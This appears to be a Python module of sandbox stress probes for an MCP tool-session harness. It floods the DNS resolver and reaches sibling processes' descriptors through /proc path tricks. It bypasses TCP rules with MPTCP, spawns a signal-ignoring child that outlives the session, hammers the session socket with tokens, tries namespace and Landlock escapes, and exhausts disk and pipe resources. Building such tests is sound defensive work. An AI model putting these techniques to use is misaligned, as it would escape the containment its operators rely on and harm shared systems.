"""Odd uses of what the gate and the resolver decide on: paths, sockets, streams, and a life after the conversation."""

import contextlib
import ctypes
import os
import random
import socket
import stat
import struct
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from functools import partial
from typing import Any

from .attempt import Facts, any_of, changing, flipping, honest_call, in_threads, own_path, which_of
from .kernel import libc, syscall
from .network import address_of, talk

_MPTCP = 262
_CLONE3 = 435
_UNBOUND = struct.pack("=H14x", socket.AF_UNSPEC)


def junk_questions(facts: Facts) -> str:
    """Junk, and questions cut in the middle, on as many streams and sockets of packets as can be had."""
    until, sent, host = time.monotonic() + facts["seconds"], [0], facts["hosts"][0]
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04\x00\xff\n\r\x00\x00\x01\x00\x01"

    def run() -> None:
        chance = random.Random(threading.get_ident())
        while time.monotonic() < until:
            kind = chance.choice((socket.SOCK_STREAM, socket.SOCK_DGRAM))
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, kind) as asks:
                asks.settimeout(0.2)
                asks.connect((host, 53))
                for junk in (chance.randbytes(300), question, question[:13], b"\xff" * 4_000) * 10:
                    asks.send(junk if kind == socket.SOCK_DGRAM else struct.pack(">H", len(junk)) + junk)
                    sent[0] += 1
                asks.recv(100)

    in_threads(24, run)
    return f"sent {sent[0]}"


def slow_resolver_streams(facts: Facts) -> str:
    """Streams to the resolver from sockets that answer nothing (SO_BINDTODEVICE), and that are let go meanwhile."""
    until, tried = time.monotonic() + facts["seconds"], [0]

    def run() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError), socket.socket() as stream:
                with contextlib.suppress(OSError):
                    stream.setsockopt(socket.SOL_SOCKET, 25, b"world\0")
                stream.setblocking(False)
                libc.connect(stream.fileno(), address_of(facts["hosts"][0], 53), 16)
                libc.connect(stream.fileno(), _UNBOUND, 16)
                tried[0] += 1

    in_threads(8, run)
    return f"tried {tried[0]}"


def moved_listener(facts: Facts) -> str:
    """A thread binds a socket to all addresses, and lets it go, while others listen on it."""
    until = time.monotonic() + 2
    one = socket.socket()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    everywhere, here = address_of("0.0.0.0", facts["port"]), address_of("127.0.0.1", facts["port"])

    def move() -> None:
        for place in (here, everywhere):
            libc.bind(one.fileno(), place, 16)
            libc.connect(one.fileno(), _UNBOUND, 16)

    listened: list[str] = []
    with flipping(move):
        while not listened and time.monotonic() < until:
            if libc.listen(one.fileno(), 5) == 0:
                with contextlib.suppress(OSError):
                    listened.append(f"listens on {one.getsockname()}")
    return any_of(listened, "never listened")


def paths_of_siblings(facts: Facts) -> str:
    """What siblings have open, by a way through its own descriptors and processes: opened, and its mode and times."""
    done = []
    for pid in facts["siblings"]:
        for number in range(3, 12):
            for way in (
                f"/proc/self/fd/../../{pid}/fd/{number}",
                f"/proc/thread-self/fd/../../../../{pid}/fd/{number}",
                f"/dev/fd/../../{pid}/fd/{number}",
                "/".join(("/proc/self/root", f"proc/{pid}/fd/{number}")),
                f"/proc/self/cwd/../../../../../../../../proc/{pid}/fd/{number}",
            ):
                acts: tuple[Callable[[], Any], ...] = (
                    lambda way=way: os.close(os.open(way, os.O_RDONLY | os.O_NONBLOCK)),  # type: ignore[misc]
                    lambda way=way: os.chmod(way, 0o666),  # type: ignore[misc]
                    lambda way=way: os.utime(way, (1, 1)),  # type: ignore[misc]
                )
                for act in acts:
                    with contextlib.suppress(OSError):
                        act()
                        done.append(way)
    if not done:
        raise PermissionError("no way of five")
    return f"{len(done)}: {done[0]}"


def odd_pairs(facts: Facts) -> str:
    """Pairs of sockets of every family but Unix."""
    done = []
    for family in range(48):
        for kind in (1, 2, 3, 4, 5, 10):
            if family != socket.AF_UNIX:
                pair = (ctypes.c_int * 2)()
                if libc.socketpair(family, kind, 0, pair) == 0:
                    done.append(f"{family}/{kind}")
    return any_of(done, "none of 47 families")


def long_chain(facts: Facts) -> str:
    """A thousand links, each to the next, in a path that the gate has to follow. Then an honest call."""
    folder = own_path("chain")
    os.mkdir(folder)
    for number in range(1_500):
        os.symlink(f"{folder}/{number + 1}", f"{folder}/{number}")
    for _ in range(20):
        with contextlib.suppress(OSError):
            os.chmod(f"{folder}/0", 0o600)
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
            connection.connect(f"{folder}/0")
        with contextlib.suppress(OSError):
            os.utime(f"{folder}/0/" + "x/../" * 700, (1, 1))
    return honest_call()


def multipath(facts: Facts) -> str:
    """MPTCP, which rules for TCP do not mean: to private hosts, and for others to connect to."""
    done = []
    for family in (socket.AF_INET, socket.AF_INET6):
        for host in facts["hosts"]:
            with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM, _MPTCP) as connection:
                connection.settimeout(1)
                connection.connect((host, facts["port"]))
                done.append(talk(connection, facts))
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM, _MPTCP) as listener:
            listener.bind(("", 7_656))
            listener.listen()
            done.append("listens")
    return any_of(done, "none")


def error_without_end(facts: Facts) -> str:
    """Standard error without an end of line, and an own conversation that goes on."""
    piece, most = b"x" * 65_536, facts["most_mb"] << 4
    for _ in range(most):
        os.write(2, piece)
    return f"MiB: {facts['most_mb']}"


def lives_on(facts: Facts) -> str:
    """Closes its conversation and lives on, deaf to signals, with a child in a session of its own."""
    import signal

    for ignored in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
        signal.signal(ignored, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for number in range(3):
        os.dup2(null, number)
    time.sleep(60)
    sys.exit(0)


def state_flood(facts: Facts) -> str:
    """Requests to the socket of its state, as many as go, with its access and with a wrong one."""
    until, sent = time.monotonic() + facts["seconds"], [0]
    access = os.environ["MCP_SESSION_ACCESS"]

    def run() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
                connection.settimeout(1)
                connection.connect(os.environ["MCP_SESSION_SOCKET"])
                for bearer in (access, "wrong") * 50:
                    connection.sendall(
                        f"GET /v1/session HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {bearer}\r\n\r\n".encode()
                    )
                    connection.recv(65_536)
                    sent[0] += 1

    in_threads(16, run)
    return f"sent {sent[0]}"


def left_in_folder(facts: Facts) -> str:
    """A tree that is hard to remove: pipes, sockets, links to outside, folders without permissions, deep ones."""
    base = tempfile.mkdtemp()
    os.symlink(facts["path"], f"{base}/link")
    os.symlink(os.path.dirname(facts["path"]), f"{base}/folder")
    os.mkfifo(f"{base}/pipe")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(f"{base}/socket")
    os.chdir(base)
    for number in range(facts["most"]):
        os.mkdir("d" * 200)
        os.symlink(facts["path"], "d" * 200 + f"/{number}")
        os.chdir("d" * 200)
    os.mkdir("closed", 0)
    os.chmod(base, stat.S_IRUSR)
    return f"depth: {facts['most']}"


def many_files(facts: Facts) -> str:
    """Very many empty files, which somebody has to remove."""
    made = 0
    with contextlib.suppress(OSError):
        folder = tempfile.mkdtemp()
        for number in range(facts["most"]):
            os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
            made += 1
    return f"files: {made}"


def pipe_pages(facts: Facts) -> str:
    """Pipes as large as they may be, which the kernel counts for a user."""
    import fcntl

    held, pages = [], 0
    with contextlib.suppress(OSError):
        while True:
            held.append(os.pipe())
            with contextlib.suppress(OSError):
                pages += fcntl.fcntl(held[-1][0], 1031, 1 << 20) >> 12
    time.sleep(1.5)
    return f"pages: {pages}"


def newer_ways(facts: Facts) -> str:
    """Ways to siblings and out that newer kernels have, and those that nobody thinks of."""
    acts: list[tuple[str, Callable[[], object]]] = []
    for pid in facts["siblings"]:
        words = {"autogroup": "19", "clear_refs": "1", "timerslack_ns": "1", "comm": "x"}
        acts += [(name, partial(_write, f"/proc/{pid}/{name}", word)) for name, word in words.items()]
        with contextlib.suppress(OSError):
            process = os.pidfd_open(pid)
            requests = range(0xFF01, 0xFF0B)  # PIDFD_GET_*_NAMESPACE
            acts += [("namespace", partial(_ioctl, process, request)) for request in requests]
            acts.append(("setns", partial(syscall, "setns", process, 0x4000_0000)))
            acts.append(("end", partial(_number, 448, process, 0)))
    mounts = ctypes.create_string_buffer(struct.pack("=IIQQ", 24, 0, 1, 0))
    acts += [
        ("own namespaces", lambda: _number(_CLONE3, _clone_arguments(0x1000_0000), 88)),
        ("transparent", lambda: socket.socket().setsockopt(socket.SOL_IP, 19, 1)),
        ("mark", lambda: socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1)),
        ("listmount", lambda: _number(458, mounts, 0, 0, 0)),
        ("beyond the table", lambda: _number(471, 0, 0, 0)),
        ("landlock off", lambda: _number(446, -1, 0)),
    ]
    return which_of(acts, "none")


def _write(path: str, words: str) -> None:
    with open(path, "w", encoding="ascii") as file:
        file.write(words)


def _ioctl(fd: int, request: int) -> None:
    libc.ioctl.argtypes = (ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p)
    if libc.ioctl(fd, request, None) < 0:
        raise OSError(ctypes.get_errno(), "")


def _number(number: int, *arguments: Any) -> None:
    given = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    answer = libc.syscall(ctypes.c_long(number), *given)
    if answer == 0 and number == _CLONE3:
        os._exit(0)
    if answer < 0:
        raise OSError(ctypes.get_errno(), "")


def _clone_arguments(flags: int) -> Any:
    return ctypes.create_string_buffer(struct.pack("=QQQQQ", flags, 0, 0, 0, 17) + bytes(48))


def changed_batch(facts: Facts) -> str:
    """sendmmsg to many hosts with fast open, one of which changes on the way, and descriptors in its messages."""
    good, bad = (address_of(host, facts["port"]) for host in facts["hosts"])
    place = ctypes.create_string_buffer(good, 16)
    data = ctypes.create_string_buffer(facts["token"].encode())
    vector = struct.pack("=QQ", ctypes.addressof(data), len(data))
    room = ctypes.create_string_buffer(vector)
    header = struct.pack("=QIIQQQQII", ctypes.addressof(place), 16, 0, ctypes.addressof(room), 1, 0, 0, 0, 0)
    batch = ctypes.create_string_buffer((header + bytes(8)) * 16)
    sent = 0
    until = time.monotonic() + 1
    with changing(place, bad, good):
        while time.monotonic() < until:
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                with contextlib.suppress(OSError), socket.socket(socket.AF_INET, kind) as sends:
                    sends.setblocking(False)
                    with contextlib.suppress(OSError):
                        sends.connect((facts["hosts"][0], facts["port"]))
                    for flags in (0x2000_0000, 0x4000, 0):
                        with contextlib.suppress(OSError):
                            sent += syscall("sendmmsg", sends.fileno(), batch, 16, flags)
    if not sent:
        raise PermissionError("none sent")
    return f"sent {sent}"
